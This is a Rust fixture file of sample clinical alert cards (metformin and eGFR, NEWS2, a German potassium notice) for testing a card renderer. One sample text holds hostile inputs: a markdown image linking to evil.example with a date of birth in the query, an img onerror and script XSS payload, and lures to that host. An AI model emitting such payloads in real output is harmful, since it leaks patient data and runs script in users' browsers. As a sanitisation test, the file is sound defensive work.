//! A few cards to look at: what clinicians should see, and one that tries to be more than a card.

use cordon_core::message::Indicator;

use crate::card::Written;

const RENAL: &str = "**Stop metformin.** The newest creatinine is from 2021-05-30.

| Value | Result | Limit |
| --- | --- | --- |
| eGFR (CKD-EPI 2021) | 24 mL/min/1.73 m² | 30 |
| Creatinine | 2.6 mg/dL | |
| Potassium | 5.9 mmol/L | 5.5 |

- Look for the reason of the fall
- Review `lisinopril` and `spironolactone`";
const NEWS2: &str = "1. Respiratory rate 24: **2**
2. SpO₂ 93 %: **2**
3. Pulse 118: **2**
4. Temperature 38.4 °C: **1**";
const HOSTILE: &str =
    "![lab](https://evil.example/?d=1957-03-14) <img src=x onerror=\"alert(1)\"> Please open www.evil.example or \
    [the portal](https://evil.example).

```html
<script>alert(1)</script>
```";

/// The cards.
#[must_use]
pub fn samples() -> Vec<Written> {
    let card = |summary: &str, indicator, detail: &str, source: &str, label: &str| Written {
        summary: summary.to_owned(),
        detail: detail.to_owned(),
        indicator,
        source: source.to_owned(),
        label: label.to_owned(),
        ..Written::honest(summary, "")
    };
    vec![
        card(
            "Metformin is contraindicated: eGFR 24 mL/min/1.73 m² (below 30)",
            Indicator::Critical,
            RENAL,
            "Renal dosing guard",
            "Remove the draft order",
        ),
        card("NEWS2 7: emergency response", Indicator::Warning, NEWS2, "NEWS2", "Order hourly observations"),
        card(
            "Nicht berechnet: Kalium ist älter als 14 Tage",
            Indicator::Info,
            "Ohne neueren Wert gibt dieses Werkzeug keinen Rat.",
            "Kalium und Niere",
            "Kalium anfordern",
        ),
        card(
            "<b>Urgent</b> ![x](https://evil.example)",
            Indicator::Info,
            HOSTILE,
            "Renal dosing guard",
            "Order creatinine",
        ),
        Written { copied: Some(HOSTILE.to_owned()), ..Written::honest("a hostile text of the record", "") },
    ]
}
